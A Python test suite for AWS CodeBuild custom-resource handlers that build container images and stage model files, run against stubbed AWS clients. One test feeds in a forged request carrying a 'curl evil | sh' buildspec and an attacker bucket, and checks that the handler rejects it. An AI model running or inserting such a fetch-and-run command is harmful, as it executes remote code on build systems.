"""The deploy-time build jobs (Image, Model) against stubbed AWS APIs (botocore Stubber; the wait
condition handle is a local receiver on 127.0.0.1; nothing leaves the machine)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from botocore.stub import ANY
from handler_helpers import start_handle, stubbed_clients

from decider_stacks import config
from decider_stacks.handlers import build_jobs
from decider_stacks.handlers import codebuild_job as job
from decider_stacks.handlers.wait_signal import SignalError
from decider_stacks.synth import cdk_json_context

DIGEST = "sha256:" + "ab" * 32
REPO_URI = "123456789012.dkr.ecr.us-east-1.amazonaws.com/decider-images"
PARAMETER = "/decider/decider-cpu/image"
STARTED = datetime(2026, 1, 1, 12, 0, tzinfo=UTC)
REQUEST_ID = "5c1e3f0a-request"


def environment(**variables: str) -> dict[str, Any]:
    return {
        "type": "LINUX_CONTAINER",
        "image": "aws/codebuild/standard:7.0",
        "computeType": "BUILD_GENERAL1_SMALL",
        "environmentVariables": [{"name": k, "value": v} for k, v in variables.items()],
    }


@pytest.fixture
def handle():
    receiver, server = start_handle()
    yield receiver
    server.shutdown()
    server.server_close()


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """Real boto3 clients with Stubbers: every call must be expected, or the test fails."""
    for name, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
        # The values ImageStack gives the functions.
        "POLL_SECONDS": "30",
        "START_RETRY_MINUTES": str(config.BUILD_START_RETRY_MINUTES),
        "DEADLINE_GRACE_MINUTES": str(config.BUILD_DEADLINE_GRACE_MINUTES),
        build_jobs.ENV: json.dumps(JOBS),
    }.items():
        monkeypatch.setenv(name, value)
    clients, stubs = stubbed_clients()
    yield {"clients": clients, **stubs}
    for stub in stubs.values():
        stub.assert_no_pending_responses()
        stub.deactivate()


def image_props(handle_url: str, **overrides: Any) -> dict[str, Any]:
    return {
        "ServiceToken": "arn:aws:lambda:us-east-1:123456789012:function:provider",
        "Kind": "Image",
        "ImageTag": "cpu-abc",
        "WaitHandle": handle_url,
        "ImageSource": "auto",
        "DeployedImageParameter": PARAMETER,
        **overrides,
    }


MODEL_PROPS = {
    "ServiceToken": "arn:aws:lambda:us-east-1:123456789012:function:provider",
    "Kind": "Model",
    "Bucket": "artifacts",
    "Prefix": "models/org/repo/rev/13c16f426047/",
    "Repository": "org/repo",
    "Revision": "a" * 40,
    "File": "model.gguf",
    "SizeBytes": "3013027808",
    "Sha256": "13c16f42" + "0" * 52 + "a983",
}


def _recipe(compute: str, build_args: str = "") -> dict[str, str]:
    return build_jobs.image_recipe(
        variant="cpu",
        build_args=build_args,
        compute_type=compute,
        timeout_minutes=60,
        queued_timeout_minutes=45,
    )


# What ImageStack fixes at synth (its functions' BUILD_JOBS): the only builds a request can get.
JOBS = build_jobs.document(
    image_project="ImageBuild",
    repository_name="decider-images",
    repository_uri=REPO_URI,
    images={
        "cpu-abc": _recipe("BUILD_GENERAL1_LARGE", "PYTHON_IMAGE=mirror/python:3.11\nX=1"),
        "cpu-big": _recipe("BUILD_GENERAL1_2XLARGE"),
    },
    model_project="ModelStaging",
    model={
        **{k: v for k, v in MODEL_PROPS.items() if k in build_jobs.MODEL_FIELDS},
        "TimeoutMinutes": "25",
        "QueuedTimeoutMinutes": "10",
    },
    archive_key="models/org/repo/rev/13c16f426047-batch-transform/model.tar.gz",
)
MODEL_KEY = MODEL_PROPS["Prefix"] + "model.gguf"
LEGACY_ARCHIVE_KEY = MODEL_PROPS["Prefix"] + "model.tar.gz"  # where an earlier version put the archive


def no_archive_in_the_prefix(aws: dict[str, Any]) -> None:
    aws["s3"].add_client_error(
        "head_object",
        "404",
        http_status_code=404,
        expected_params={"Bucket": "artifacts", "Key": LEGACY_ARCHIVE_KEY},
    )


STACK_ID = "arn:aws:cloudformation:us-east-1:123456789012:stack/CpuStack/1a2b3c"


def stack_status(aws: dict[str, Any], status: str) -> None:
    aws["cloudformation"].add_response(
        "describe_stacks",
        {"Stacks": [{"StackName": "CpuStack", "StackStatus": status, "CreationTime": STARTED}]},
        expected_params={"StackName": STACK_ID},
    )


def event(request: str, props: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"RequestType": request, "RequestId": REQUEST_ID, "ResourceProperties": props, **extra}


def build(status: str, **fields: Any) -> dict[str, Any]:
    return {
        "id": "ModelStaging:1234",
        "buildStatus": status,
        "startTime": STARTED,
        # the limits StartBuild gave it (the model job's: 10 min queue + 25 min build)
        "queuedTimeoutInMinutes": 10,
        "timeoutInMinutes": 25,
        "logs": {"deepLink": "https://console.aws.amazon.com/cloudwatch/logs"},
        **fields,
    }


def no_pinned_image(aws: dict[str, Any]) -> None:
    aws["ssm"].add_client_error("get_parameter", "ParameterNotFound", expected_params={"Name": PARAMETER})


def no_such_tag(aws: dict[str, Any]) -> None:
    aws["ecr"].add_client_error(
        "describe_images",
        "ImageNotFoundException",
        expected_params={"repositoryName": "decider-images", "imageIds": [{"imageTag": "cpu-abc"}]},
    )


def env_of(request: dict[str, Any]) -> dict[str, str]:
    return {v["name"]: v["value"] for v in request["environmentVariablesOverride"]}


# --- image: start, reuse, keep ----------------------------------------------------------------------


def test_image_build_starts_with_the_synthesized_recipe_and_the_wait_handle(aws, handle):
    no_pinned_image(aws)
    no_such_tag(aws)
    props = image_props(handle.url)
    aws["codebuild"].add_response(
        "start_build",
        {"build": {"id": "ImageBuild:1234"}},
        expected_params={  # no buildspec, source or project from the request: the project's own
            "projectName": "ImageBuild",
            "timeoutInMinutesOverride": 60,
            "queuedTimeoutInMinutesOverride": 45,
            "computeTypeOverride": "BUILD_GENERAL1_LARGE",
            "environmentVariablesOverride": [
                {"name": "REPOSITORY_URI", "value": REPO_URI, "type": "PLAINTEXT"},
                {"name": "IMAGE_TAG", "value": "cpu-abc", "type": "PLAINTEXT"},
                {"name": "VARIANT", "value": "cpu", "type": "PLAINTEXT"},
                {
                    "name": "EXTRA_BUILD_ARGS",
                    "value": "PYTHON_IMAGE=mirror/python:3.11\nX=1",
                    "type": "PLAINTEXT",
                },
                {"name": "WAIT_HANDLE_URL", "value": handle.url, "type": "PLAINTEXT"},
                {"name": "DEPLOY_REQUEST_ID", "value": REQUEST_ID, "type": "PLAINTEXT"},
            ],
        },
    )
    result = job.on_event(event("Create", props), clients=aws["clients"])
    assert result == {
        "PhysicalResourceId": f"{REPO_URI}:cpu-abc",
        "Data": {"BuildId": "ImageBuild:1234", "Source": "build"},
    }
    assert handle.signals == []  # the build itself signals after its push
    # started: the custom resource is done; the wait condition waits for the image
    done = job.is_complete(event("Create", props, **result), clients=aws["clients"])
    assert done == {"IsComplete": True, "Data": {"BuildId": "ImageBuild:1234", "Source": "build"}}


@pytest.mark.parametrize(("tag", "cache_off"), [("cpu-big", True), ("cpu-abc", False)])
def test_2xlarge_builds_run_without_the_local_cache(aws, tag, cache_off):
    request = job.build_request(image_props("https://h", ImageTag=tag), REQUEST_ID)
    assert ("cacheOverride" in request) is cache_off
    if cache_off:
        assert request["cacheOverride"] == {"type": "NO_CACHE"}


def test_existing_tag_is_reused_and_signalled_without_a_build(aws, handle):
    no_pinned_image(aws)
    aws["ecr"].add_response(
        "describe_images",
        {"imageDetails": [{"imageDigest": DIGEST, "imageTags": ["cpu-abc"]}]},
        expected_params={"repositoryName": "decider-images", "imageIds": [{"imageTag": "cpu-abc"}]},
    )
    stack_status(aws, "UPDATE_IN_PROGRESS")
    props = image_props(handle.url)
    update = event("Update", props, PhysicalResourceId="old", StackId=STACK_ID)
    started = job.on_event(update, clients=aws["clients"])
    assert started["Data"] == {"BuildId": "", "Source": "build"}
    [signal] = handle.signals
    assert signal == {
        "Status": "SUCCESS",
        "Reason": "tag cpu-abc exists",
        "UniqueId": "image",
        "Data": f"{REPO_URI}@{DIGEST}",
    }
    assert handle.headers[0].get("Content-Type", "") == ""  # presigned URLs sign no content type
    done = job.is_complete(event("Update", props, **started), clients=aws["clients"])
    assert done == {"IsComplete": True, "Data": {"BuildId": "", "Source": "build"}}


def _record(aws, source: str | None) -> None:
    if source is None:
        aws["ssm"].add_client_error("get_parameter", "ParameterNotFound", expected_params={"Name": PARAMETER})
        return
    image = f"123456789012.dkr.ecr.us-east-1.amazonaws.com/ci-images@sha256:{'c' * 64}"
    value = json.dumps({"image_uri": image, "source": source})
    aws["ssm"].add_response(
        "get_parameter",
        {"Parameter": {"Name": PARAMETER, "Value": value}},
        expected_params={"Name": PARAMETER},
    )


@pytest.mark.parametrize(("record", "source"), [(None, "build"), ("build", "build"), ("pinned", "pinned")])
def test_a_rollback_s_update_neither_builds_nor_signals_and_keeps_the_source(aws, handle, record, source):
    """The rollback's Update carries the old properties: their handle was signalled long ago. The
    source it reports is the one of the deploy the stack returns to (from the SSM record, which the
    failed deploy never wrote), so `ImageSource` and the record stay `pinned` when they were."""
    stack_status(aws, "UPDATE_ROLLBACK_IN_PROGRESS")
    _record(aws, record)
    update = event("Update", image_props(handle.url), PhysicalResourceId="old", StackId=STACK_ID)
    started = job.on_event(update, clients=aws["clients"])  # no ECR or CodeBuild call expected
    assert started["Data"] == {"BuildId": "", "Source": source}
    assert handle.signals == []


def _running_build(aws, build_id: str, wait_handle: str, status: str = "IN_PROGRESS") -> None:
    aws["codebuild"].add_response(
        "list_builds_for_project",
        {"ids": [build_id, "ImageBuild:old"]},
        expected_params={"projectName": "ImageBuild", "sortOrder": "DESCENDING"},
    )
    aws["codebuild"].add_response(
        "batch_get_builds",
        {
            "builds": [
                {
                    "id": build_id,
                    "buildStatus": status,
                    "environment": environment(WAIT_HANDLE_URL=wait_handle),
                },
                {"id": "ImageBuild:old", "buildStatus": "SUCCEEDED", "environment": environment()},
            ]
        },
        expected_params={"ids": [build_id, "ImageBuild:old"]},
    )


def test_a_rollback_stops_the_build_the_failed_deploy_started(aws, handle):
    """CloudFormation rolls back while the new build runs (a 2XLARGE CUDA build: up to 100 min)."""
    stack_status(aws, "UPDATE_ROLLBACK_IN_PROGRESS")
    new_handle = handle.url + "&new=1"
    _running_build(aws, "ImageBuild:new", new_handle)
    aws["codebuild"].add_response("stop_build", {}, expected_params={"id": "ImageBuild:new"})
    _record(aws, None)
    update = event(
        "Update",
        image_props(handle.url),
        PhysicalResourceId="old",
        StackId=STACK_ID,
        OldResourceProperties=image_props(new_handle),
    )
    assert job.on_event(update, clients=aws["clients"])["Data"] == {"BuildId": "", "Source": "build"}
    aws["codebuild"].assert_no_pending_responses()


def test_an_image_pinned_by_the_last_deploy_is_kept_without_building(aws, handle):
    pinned = f"123456789012.dkr.ecr.us-east-1.amazonaws.com/ci-images@sha256:{'c' * 64}"
    aws["ssm"].add_response(
        "get_parameter",
        {"Parameter": {"Name": PARAMETER, "Value": json.dumps({"image_uri": pinned, "source": "pinned"})}},
        expected_params={"Name": PARAMETER},
    )
    result = job.on_event(event("Create", image_props(handle.url)), clients=aws["clients"])
    assert result["Data"] == {"BuildId": "", "Source": "pinned"}
    assert [s["Data"] for s in handle.signals] == [pinned]


def test_image_source_build_ignores_the_pinned_record(aws, handle):
    no_such_tag(aws)
    aws["codebuild"].add_response("start_build", {"build": {"id": "ImageBuild:9"}})
    result = job.on_event(
        event("Create", image_props(handle.url, ImageSource="build")), clients=aws["clients"]
    )
    assert result["Data"] == {"BuildId": "ImageBuild:9", "Source": "build"}  # no SSM call was made


def test_a_record_of_a_source_build_does_not_pin(aws, handle):
    record = {"image_uri": f"{REPO_URI}@{DIGEST}", "source": "build"}
    aws["ssm"].add_response("get_parameter", {"Parameter": {"Name": PARAMETER, "Value": json.dumps(record)}})
    no_such_tag(aws)
    aws["codebuild"].add_response("start_build", {"build": {"id": "ImageBuild:10"}})
    assert job.on_event(event("Create", image_props(handle.url)), clients=aws["clients"])["Data"]["BuildId"]


def test_a_request_for_a_tag_the_app_did_not_synthesize_builds_nothing(aws, handle):
    """Anything that can invoke the provider can send a request: its buildspec, project, source and
    build arguments are ignored (not even read), and a tag ImageStack was not deployed with is refused
    before any AWS call."""
    no_pinned_image(aws)
    forged = image_props(
        handle.url,
        ImageTag="cpu-forged",
        ProjectName="ImageBuild",
        Buildspec="version: 0.2\nphases: {build: {commands: [curl evil | sh]}}\n",
        SourceBucket="attacker",
        SourceKey="payload.zip",
    )
    with pytest.raises(build_jobs.UnknownJobError, match=r"cpu-forged is not one ImageStack.*cpu-abc"):
        job.on_event(event("Create", forged), clients=aws["clients"])
    assert handle.signals == []
    request = job.build_request(image_props(handle.url, Buildspec="evil", BuildArgs="X=evil"), REQUEST_ID)
    assert "buildspecOverride" not in request and "sourceLocationOverride" not in request
    assert env_of(request)["EXTRA_BUILD_ARGS"] == "PYTHON_IMAGE=mirror/python:3.11\nX=1"


@pytest.mark.parametrize(
    ("field", "value"), [("Repository", "attacker/model"), ("Sha256", "0" * 64), ("Bucket", "elsewhere")]
)
def test_a_model_the_app_does_not_pin_is_not_staged(aws, field, value):
    aws["s3"].add_client_error("head_object", "404", http_status_code=404)
    with pytest.raises(build_jobs.UnknownJobError, match=field):
        job.on_event(event("Create", {**MODEL_PROPS, field: value}), clients=aws["clients"])


def test_a_handle_that_refuses_the_signal_fails_the_resource(aws, handle):
    handle.status = 403
    no_pinned_image(aws)
    aws["ecr"].add_response("describe_images", {"imageDetails": [{"imageDigest": DIGEST}]})
    with pytest.raises(SignalError, match="HTTP 403"):
        job.on_event(event("Create", image_props(handle.url)), clients=aws["clients"])


# --- AccountLimitExceededException: retried with backoff ---------------------------------------------


def test_retry_schedule_backs_off_to_five_minutes():
    polls = range(0, 1800 + 1, 30)  # the waiter polls every 30 s
    due = [t for t in polls if job.retry_due(t, 30)]
    assert due == [30, 90, 210, 450, 750, 1050, 1350, 1650]


def limit_exceeded(aws: dict[str, Any]) -> None:
    aws["codebuild"].add_client_error(
        "start_build",
        "AccountLimitExceededException",
        service_message="Cannot have more than 0 builds in queue for the account",
    )


def no_recent_build(aws: dict[str, Any]) -> None:
    aws["codebuild"].add_response(
        "list_builds_for_project",
        {"ids": ["ImageBuild:old"]},
        expected_params={"projectName": ANY, "sortOrder": "DESCENDING"},
    )
    aws["codebuild"].add_response(
        "batch_get_builds",
        {"builds": [build("SUCCEEDED", id="ImageBuild:old", environment=environment(OTHER="x"))]},
    )


def test_a_refused_image_build_is_retried_from_is_complete(aws, handle):
    no_pinned_image(aws)
    no_such_tag(aws)
    limit_exceeded(aws)
    props = image_props(handle.url)
    started = job.on_event(event("Create", props), clients=aws["clients"], now=STARTED)
    assert started["Data"] == {
        "BuildId": "",
        "Pending": "true",
        "RequestedAt": STARTED.isoformat(),
        "Source": "build",
    }
    pending = event("Create", props, **started)
    # 60 s later: no retry is due (retries at 30, 90, … s)
    no_recent_build(aws)
    assert job.is_complete(pending, clients=aws["clients"], now=STARTED + timedelta(seconds=60)) == {
        "IsComplete": False
    }
    # 90 s: a retry is due, still refused
    no_recent_build(aws)
    limit_exceeded(aws)
    assert job.is_complete(pending, clients=aws["clients"], now=STARTED + timedelta(seconds=90)) == {
        "IsComplete": False
    }
    # 210 s: the retry starts the build with the same request
    no_recent_build(aws)
    aws["codebuild"].add_response("start_build", {"build": {"id": "ImageBuild:77"}})
    done = job.is_complete(pending, clients=aws["clients"], now=STARTED + timedelta(seconds=210))
    assert done == {"IsComplete": True, "Data": {"BuildId": "ImageBuild:77", "Source": "build"}}


def test_a_build_a_retry_already_started_is_found_by_its_request_id(aws):
    data = {"BuildId": "", "Pending": "true", "RequestedAt": STARTED.isoformat()}
    aws["codebuild"].add_response("list_builds_for_project", {"ids": ["ModelStaging:9"]})
    mine = build(
        "IN_PROGRESS",
        id="ModelStaging:9",
        environment=environment(DEPLOY_REQUEST_ID=REQUEST_ID),
    )
    aws["codebuild"].add_response("batch_get_builds", {"builds": [mine]})
    aws["codebuild"].add_response("batch_get_builds", {"builds": [mine]}, {"ids": ["ModelStaging:9"]})
    result = job.is_complete(
        event("Create", MODEL_PROPS, Data=data), clients=aws["clients"], now=STARTED + timedelta(minutes=3)
    )
    assert result == {"IsComplete": False}  # polling the build it found, which still runs


def test_refusals_past_the_retry_window_fail_with_the_quota_to_raise(aws):
    data = {"BuildId": "", "Pending": "true", "RequestedAt": STARTED.isoformat()}
    aws["codebuild"].add_response("list_builds_for_project", {})
    late = STARTED + timedelta(minutes=config.BUILD_START_RETRY_MINUTES, seconds=1)
    with pytest.raises(job.BuildFailedError, match=r"Concurrently running builds.*preflight"):
        job.is_complete(event("Create", MODEL_PROPS, Data=data), clients=aws["clients"], now=late)


# --- model staging ------------------------------------------------------------------------------------


def test_model_already_staged_with_the_pinned_hash_is_not_downloaded(aws):
    aws["s3"].add_response(
        "head_object",
        {"ContentLength": 3013027808, "Metadata": {"sha256": MODEL_PROPS["Sha256"]}},
        expected_params={"Bucket": "artifacts", "Key": MODEL_KEY},
    )
    no_archive_in_the_prefix(aws)
    result = job.on_event(event("Create", MODEL_PROPS), clients=aws["clients"])
    uri = "s3://artifacts/models/org/repo/rev/13c16f426047/"
    assert result == {"PhysicalResourceId": uri + "model.gguf", "Data": {"BuildId": "", "ModelS3Uri": uri}}


ARCHIVE_KEY = "models/org/repo/rev/13c16f426047-batch-transform/model.tar.gz"


def test_the_batch_transform_archive_is_checked_and_returned_beside_the_mounted_prefix(aws):
    """Issue 33 §2: the archive is staged outside the prefix the endpoint's Model mounts (S3Prefix
    takes every object under it), and the staging build is asked to write it there."""
    props = {**MODEL_PROPS, "ArchiveKey": ARCHIVE_KEY}
    staged = {"ContentLength": 3013027808, "Metadata": {"sha256": MODEL_PROPS["Sha256"]}}
    aws["s3"].add_response("head_object", staged, {"Bucket": "artifacts", "Key": MODEL_KEY})
    aws["s3"].add_response("head_object", staged, {"Bucket": "artifacts", "Key": ARCHIVE_KEY})
    no_archive_in_the_prefix(aws)
    result = job.on_event(event("Create", props), clients=aws["clients"])
    assert result["Data"]["ModelArchiveUri"] == f"s3://artifacts/{ARCHIVE_KEY}"
    assert not ARCHIVE_KEY.startswith(MODEL_PROPS["Prefix"])
    assert env_of(job.build_request(props, REQUEST_ID))["MODEL_ARCHIVE_KEY"] == ARCHIVE_KEY


def test_an_archive_left_in_the_mounted_prefix_starts_the_staging_build_that_removes_it(aws):
    """An earlier version packed model.tar.gz into the model prefix: every instance downloads it, and
    once batch_transform is off its grant is gone (AccessDenied at the next launch). Present or not
    batch_transform, the model is not 'staged' until the build has removed it."""
    staged = {"ContentLength": 3013027808, "Metadata": {"sha256": MODEL_PROPS["Sha256"]}}
    aws["s3"].add_response("head_object", staged, {"Bucket": "artifacts", "Key": MODEL_KEY})
    aws["s3"].add_response(
        "head_object", {"ContentLength": 5}, {"Bucket": "artifacts", "Key": LEGACY_ARCHIVE_KEY}
    )
    aws["codebuild"].add_response("start_build", {"build": {"id": "ModelStaging:7"}})
    assert job.on_event(event("Update", MODEL_PROPS), clients=aws["clients"])["Data"] == {
        "BuildId": "ModelStaging:7"
    }


def test_model_with_another_hash_is_staged_again(aws):
    aws["s3"].add_response("head_object", {"ContentLength": 3013027808, "Metadata": {"sha256": "0" * 64}})
    aws["codebuild"].add_response(
        "start_build",
        {"build": {"id": "ModelStaging:1"}},
        expected_params={
            "projectName": "ModelStaging",
            "timeoutInMinutesOverride": 25,
            "queuedTimeoutInMinutesOverride": 10,
            "environmentVariablesOverride": ANY,
        },
    )
    assert job.on_event(event("Create", MODEL_PROPS), clients=aws["clients"])["Data"] == {
        "BuildId": "ModelStaging:1"
    }


def test_missing_model_404_starts_the_staging_build_with_the_pin(aws):
    aws["s3"].add_client_error("head_object", "404", http_status_code=404)
    aws["codebuild"].add_response("start_build", {"build": {"id": "ModelStaging:2"}})
    job.on_event(event("Create", MODEL_PROPS), clients=aws["clients"])
    env = env_of(job.build_request(MODEL_PROPS, REQUEST_ID))
    assert env["MODEL_SHA256"] == MODEL_PROPS["Sha256"]
    assert env["MODEL_SIZE_BYTES"] == "3013027808"
    assert env["MODEL_PREFIX"].endswith("/")
    assert env["DEPLOY_REQUEST_ID"] == REQUEST_ID


def test_a_403_on_a_missing_key_counts_as_absent(aws):
    """No unconditional s3:ListBucket: S3 answers 403 for a missing key; a prefix listing settles it."""
    aws["s3"].add_client_error("head_object", "403", http_status_code=403)
    aws["s3"].add_response(
        "list_objects_v2",
        {"KeyCount": 0},
        expected_params={"Bucket": "artifacts", "Prefix": MODEL_KEY, "MaxKeys": 1},
    )
    aws["codebuild"].add_response("start_build", {"build": {"id": "ModelStaging:3"}})
    assert job.on_event(event("Create", MODEL_PROPS), clients=aws["clients"])["Data"]["BuildId"] == (
        "ModelStaging:3"
    )


def test_a_403_on_an_existing_key_is_a_real_denial(aws):
    aws["s3"].add_client_error("head_object", "403", http_status_code=403)
    aws["s3"].add_response("list_objects_v2", {"KeyCount": 1, "Contents": [{"Key": MODEL_KEY}]})
    with pytest.raises(job.BuildFailedError, match="exists, but HeadObject on it is denied"):
        job.on_event(event("Create", MODEL_PROPS), clients=aws["clients"])


def test_running_build_is_not_complete(aws):
    aws["codebuild"].add_response(
        "batch_get_builds",
        {"builds": [build("IN_PROGRESS", currentPhase="BUILD")]},
        expected_params={"ids": ["ModelStaging:1234"]},
    )
    result = job.check_build(
        aws["clients"], MODEL_PROPS, "ModelStaging:1234", now=STARTED + timedelta(minutes=5)
    )
    assert result == {"IsComplete": False}


def test_model_build_success_is_verified_against_the_bucket(aws):
    aws["codebuild"].add_response("batch_get_builds", {"builds": [build("SUCCEEDED")]})
    aws["s3"].add_response(
        "head_object", {"ContentLength": 3013027808, "Metadata": {"sha256": MODEL_PROPS["Sha256"]}}
    )
    no_archive_in_the_prefix(aws)
    done = job.is_complete(
        event("Create", MODEL_PROPS, Data={"BuildId": "ModelStaging:1234"}), clients=aws["clients"]
    )
    assert done == {
        "IsComplete": True,
        "Data": {"ModelS3Uri": "s3://artifacts/models/org/repo/rev/13c16f426047/"},
    }


def test_model_build_success_with_a_wrong_object_fails(aws):
    aws["codebuild"].add_response("batch_get_builds", {"builds": [build("SUCCEEDED")]})
    aws["s3"].add_response(
        "head_object", {"ContentLength": 12, "Metadata": {"sha256": MODEL_PROPS["Sha256"]}}
    )
    with pytest.raises(job.BuildFailedError, match="missing or has another sha256"):
        job.check_build(aws["clients"], MODEL_PROPS, "ModelStaging:1234")


def test_failed_build_raises_with_the_phase_message_and_logs(aws):
    phases = [
        {"phaseType": "PRE_BUILD", "phaseStatus": "SUCCEEDED"},
        {
            "phaseType": "BUILD",
            "phaseStatus": "FAILED",
            "contexts": [{"statusCode": "COMMAND_EXECUTION_ERROR", "message": "download failed"}],
        },
    ]
    aws["codebuild"].add_response("batch_get_builds", {"builds": [build("FAILED", phases=phases)]})
    with pytest.raises(
        job.BuildFailedError, match=r"ended FAILED in phase BUILD: download failed.*Logs: https"
    ):
        job.check_build(aws["clients"], MODEL_PROPS, "ModelStaging:1234")


def test_build_timed_out_in_codebuild_raises(aws):
    aws["codebuild"].add_response("batch_get_builds", {"builds": [build("TIMED_OUT")]})
    with pytest.raises(job.BuildFailedError, match="ended TIMED_OUT"):
        job.check_build(aws["clients"], MODEL_PROPS, "ModelStaging:1234")


def test_build_past_queue_timeout_and_grace_is_stopped_and_fails(aws):
    aws["codebuild"].add_response("batch_get_builds", {"builds": [build("IN_PROGRESS")]})
    aws["codebuild"].add_response(
        "stop_build", {"build": {"id": "ModelStaging:1234"}}, {"id": "ModelStaging:1234"}
    )
    late = STARTED + timedelta(minutes=25 + 10 + config.BUILD_DEADLINE_GRACE_MINUTES, seconds=1)
    with pytest.raises(job.BuildFailedError, match=r"still running after 35 min \(queue \+ timeout\)"):
        job.check_build(aws["clients"], MODEL_PROPS, "ModelStaging:1234", now=late)


def test_delete_keeps_images_and_models_and_stops_a_running_build(aws, handle):
    _running_build(aws, "ImageBuild:7", handle.url)
    aws["codebuild"].add_response("stop_build", {}, expected_params={"id": "ImageBuild:7"})
    deleted = event("Delete", image_props(handle.url), PhysicalResourceId="keep-me")
    result = job.on_event(deleted, clients=aws["clients"])
    assert result == {"PhysicalResourceId": "keep-me"}
    aws["codebuild"].assert_no_pending_responses()
    assert job.on_event(event("Delete", MODEL_PROPS, PhysicalResourceId="m"), clients={}) == {
        "PhysicalResourceId": "m"
    }
    assert job.is_complete(event("Delete", MODEL_PROPS, PhysicalResourceId="keep-me")) == {"IsComplete": True}


def test_a_delete_whose_build_ended_stops_nothing_and_a_refusal_does_not_fail_it(aws, handle):
    _running_build(aws, "ImageBuild:7", handle.url, status="SUCCEEDED")
    deleted = event("Delete", image_props(handle.url), PhysicalResourceId="keep-me")
    assert job.on_event(deleted, clients=aws["clients"]) == {"PhysicalResourceId": "keep-me"}
    aws["codebuild"].add_client_error("list_builds_for_project", "AccessDeniedException")
    assert job.on_event(deleted, clients=aws["clients"]) == {"PhysicalResourceId": "keep-me"}


def test_the_staging_budget_fits_the_custom_resource_ceiling():
    """Start retries + queue + build + grace must end before the provider (and CloudFormation) gives up."""
    model = config.load_config(cdk_json_context()).model
    assert config.staging_budget_minutes(model) <= config.PROVIDER_TOTAL_TIMEOUT_MINUTES
    assert config.PROVIDER_TOTAL_TIMEOUT_MINUTES * 60 < config.CUSTOM_RESOURCE_TIMEOUT_S <= 3600
